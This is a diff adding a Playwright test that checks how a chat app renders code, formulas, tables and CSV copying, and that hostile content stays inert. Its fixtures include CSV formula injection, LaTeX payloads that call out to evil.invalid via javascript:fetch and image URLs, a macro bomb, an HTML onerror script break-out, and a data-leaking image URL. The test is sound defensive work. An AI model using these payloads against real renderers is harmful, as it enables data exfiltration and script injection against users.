@@ -1,0 +1,57 @@
+import { expect, test } from '@playwright/test'
+import { answers, idle, openApp, send } from '../support/app-page'
+import { answer, text } from '../support/fake-messages-api'
+import { setUpModelDesk } from '../support/model-desk'
+import { watchPage } from '../support/watch-page'
+
+const desk = setUpModelDesk({ opens: false })
+
+const tables = '| Port | Depth |\n|---|---|\n| Cuxhaven, old | =HYPERLINK("https://evil.invalid") |'
+const hostileMath = [
+  '\\href{javascript:fetch("https://evil.invalid/1")}{x}',
+  '\\includegraphics{https://evil.invalid/2.png}',
+  '\\htmlStyle{background:url(https://evil.invalid/3)}{x}',
+  '\\def\\a{\\a\\a}\\a',
+  '\\rule{99999em}{99999em}',
+  '</span><img src=x onerror=alert(1)>',
+]
+
+test('code has colours, formulas are set, a table is copied as CSV, and the policy holds', async ({
+  page,
+}) => {
+  const watch = await watchPage(page)
+  await page.addInitScript(() => {
+    Object.defineProperty(navigator, 'clipboard', {
+      value: { writeText: async (words: string) => void Object.assign(window, { copied: words }) },
+    })
+  })
+  await openApp(page, desk.host.url)
+  const words = [
+    '```ts\nconst depth: number = 12 // metres\n```',
+    '```mermaid\ngraph TD; A-->B\n```',
+    'Euler knew $$e^{i\\pi} + 1 = 0$$; it costs $5 or $6.',
+    '$$\n\\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6}\n$$',
+    tables,
+    '![pixel](https://evil.invalid/4.png?leak=1)',
+    ...hostileMath.map((tex) => `$$\n${tex}\n$$`),
+  ]
+  desk.api.push(answer([text(words.join('\n\n'))], { chunking: 'byte' }))
+  await send(page, 'Show me everything')
+  await idle(page)
+  const shown = answers(page).last()
+  await expect(shown.locator('.hljs-keyword')).toHaveText('const')
+  await expect(shown.locator('.katex').first()).toContainText('e')
+  await expect(shown.locator('.katex-display')).not.toHaveCount(0)
+  await expect(shown).toContainText('graph TD; A-->B')
+  await expect(shown).toContainText('it costs $5 or $6')
+  // What is no formula, or none that may be, is shown as it is written.
+  await expect(shown.locator('a[href^="javascript"], img, script, iframe')).toHaveCount(0)
+  await expect(shown.locator('code').filter({ hasText: '\\def\\a' })).toBeVisible()
+  await shown.getByRole('table').hover()
+  await shown.getByRole('button', { name: 'Copy as CSV' }).click()
+  await expect
+    .poll(() => page.evaluate(() => (window as { copied?: string }).copied))
+    .toBe('Port,Depth\r\n"Cuxhaven, old","\'=HYPERLINK(""https://evil.invalid"")"\r\n')
+  expect(watch.errors).toEqual([])
+  expect(watch.strangers()).toEqual([])
+})
